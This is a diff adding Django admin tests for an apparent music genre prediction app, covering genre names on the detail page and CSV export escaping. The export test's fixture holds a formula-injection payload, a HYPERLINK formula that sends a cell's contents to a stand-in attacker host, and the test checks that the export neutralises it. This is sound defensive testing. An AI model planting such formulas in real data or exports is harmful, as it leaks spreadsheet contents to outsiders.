@@ -155,3 +155,44 @@ def test_the_list_shows_the_users_label_and_filters_corrected_predictions(admin_
 
     assert [p.title for p in response.context["cl"].result_list] == ["Said R&B"]
     assert "R&amp;B · 90 BPM" in response.content.decode()
+
+
+def test_the_detail_shows_genre_names_not_model_labels(admin_client_):
+    # Issue 26, point 9: the detail said "Top genre: classical".
+    prediction = DonePredictionFactory(top_genre="rnb", user_genre="classical", corrected_at=timezone.now())
+
+    page = admin_client_.get(reverse("admin:predictions_prediction_change", args=[prediction.pk]))
+
+    readonly = {
+        f.field["name"]: str(f.contents()) for line in page.context["adminform"] for f in _fields(line)
+    }
+    assert readonly["top_genre_name"] == "R&amp;B"
+    assert readonly["user_genre_name"] == "Classical"
+    assert readonly["labels"].startswith("genre: Classical (from the user)")
+
+
+def _fields(fieldset):
+    for line in fieldset:
+        for field in line:
+            if field.is_readonly:
+                yield field
+
+
+def test_the_csv_export_neutralises_formulas_in_user_text(admin_client_):
+    # Issue 28, point 6: an upload titled "=..." became a live formula in the admin's spreadsheet.
+    DonePredictionFactory(
+        title='=HYPERLINK("http://evil.example/?"&A1,"click")', artist="@SUM(1+1)", reviewed_genre="rock"
+    )
+
+    response = admin_client_.post(
+        CHANGELIST,
+        {
+            "action": "export_reviewed_csv",
+            "_selected_action": list(Prediction.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["artist"] == "'@SUM(1+1)"
+    assert row["reviewed_genre"] == "rock"
